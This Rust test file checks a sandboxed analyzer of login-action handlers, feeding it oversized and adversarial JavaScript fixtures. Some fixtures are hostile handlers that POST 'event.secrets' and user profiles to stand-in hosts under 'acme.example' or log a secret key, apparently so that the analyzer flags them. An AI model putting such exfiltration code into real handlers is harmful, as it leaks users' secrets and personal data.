//! Packages that mean harm by their fault matrix.

use std::time::{Duration, Instant};

use bundle::report::FaultReport;

use crate::{matrix, sandbox};

/// No matrix takes longer, on a machine that does other things besides.
const MOST: Duration = Duration::from_secs(90);
/// No report is longer, in bytes of JSON.
const MOST_BYTES: usize = 4 << 20;

/// Runs the matrix of a package: within time, and to a report of bounded length.
async fn check(name: &str, code: &str, faults: &str) -> FaultReport {
    check_with(name, "", code, faults).await
}

async fn check_with(name: &str, permissions: &str, code: &str, faults: &str) -> FaultReport {
    let folder = tempfile::tempdir().unwrap();
    let write = |end: &str, text: &str| {
        std::fs::write(folder.path().join(format!("own.{end}")), text).unwrap();
    };
    let code = format!("exports.onExecutePostLogin = async (event, api) => {{{code}}};\n");
    write("js", &code);
    write("faults.json", faults);
    if !permissions.is_empty() {
        write("permissions.toml", permissions);
    }
    let sandbox = sandbox().await;
    let start = Instant::now();
    let report = matrix(&sandbox, folder.path(), "own").await;
    let took = start.elapsed();
    let bytes = serde_json::to_string(&report).unwrap().len();
    assert!(took < MOST, "{name} took {took:?}");
    assert!(bytes < MOST_BYTES, "{name}: {bytes} bytes");
    report
}

const ANSWER: &str = "const answer = await (await fetch('https://a.example/')).json();";

#[tokio::test]
async fn code_that_is_guessed_from() {
    let deep = format!(
        "{ANSWER} if (answer{} === 'x') return;",
        ".a".repeat(40_000)
    );
    let report = check("deep", &deep, "[]").await;
    assert!(report.cells.len() > 20, "{}", crate::told(&report));
    let long = format!(
        "{ANSWER} if (answer.{} === 'x') return;",
        "a".repeat(80_000)
    );
    check("long", &long, "[]").await;
    let many: String = (0..2_500)
        .map(|at| format!("if (event.configuration.A === '{at}') return;"))
        .collect();
    check("many", &many, "[]").await;
}

#[tokio::test]
async fn fixtures_that_are_large() {
    let prints = "console.log(event.user.app_metadata.a);";
    let event = |inner: &str| format!(r#"{{"event": {{"user": {{"app_metadata": {inner}}}}}}}"#);
    let text = "x".repeat(3_900_000);
    let report = check("a text", prints, &event(&format!(r#"{{"a": "{text}"}}"#))).await;
    assert!(
        report.notes[0].contains("event_bytes"),
        "{:?}",
        report.notes
    );
    let fields: Vec<_> = (0..100_000)
        .map(|at| format!(r#""k{at}": "the value of {at}""#))
        .collect();
    check(
        "fields",
        prints,
        &event(&format!("{{{}}}", fields.join(","))),
    )
    .await;
    let report = check("a key", "", &format!(r#"{{"{text}": 1}}"#)).await;
    assert!(report.notes[0].ends_with("xxx..."), "{:?}", report.notes);
    let answers = format!("{ANSWER} console.log(answer); api.idToken.setCustomClaim('c', answer);");
    check(
        "a body",
        &answers,
        &format!(r#"[{{"respond": {{"json": "{text}"}}}}]"#),
    )
    .await;
    // What hides among many texts is found all the same.
    let texts: Vec<_> = (0..100_000)
        .map(|at| format!(r#""the text of {at}""#))
        .collect();
    let leaks = format!("{ANSWER} console.log(answer.length, event.secrets.KEY);");
    let texts = format!(r#"[{{"respond": {{"json": [{}]}}}}]"#, texts.join(","));
    let report = check("texts", &leaks, &texts).await;
    let mut verdicts = report.verdicts.iter();
    assert!(
        verdicts.any(|one| one.what.as_deref() == Some("event.secrets.KEY")),
        "{}",
        crate::told(&report)
    );
    let stars = "*a".repeat(500_000);
    let pattern = format!(r#"[{{"match": {{"url": "{stars}b"}}, "respond": {{}}}}]"#);
    check(
        "a pattern",
        "await fetch('https://a.example/' + 'a'.repeat(5000));",
        &pattern,
    )
    .await;
}

#[tokio::test]
async fn handlers_that_send_and_print_all_they_have() {
    let permissions = r#"
[[permissions.event]]
field = "user"
reason = "All of it is needed."

[[permissions.api]]
method = "idToken.setCustomClaim"
names = ["c*"]
reason = "All of it is written."

[[permissions.hosts]]
host = "*.acme.example"
reason = "All of it is sent."
"#;
    let sends = "for (let i = 0; i < 60; i++) {
  api.idToken.setCustomClaim('c' + i, { ...event.user });
  const url = 'https://h' + i + '.acme.example/?' + encodeURIComponent(JSON.stringify(event.user));
  try { await fetch(url, { method: 'POST', body: JSON.stringify(event.secrets) }); } catch {}
}";
    let report = check_with("sends", permissions, sends, "[]").await;
    assert!(report.cells.iter().all(|cell| cell.travels.len() <= 200));
    let prints =
        "for (let i = 0; i < 1000; i++) console.log(JSON.stringify(event.user).repeat(20));";
    let report = check_with("prints", permissions, prints, "[]").await;
    assert!(!report.verdicts.is_empty());
}
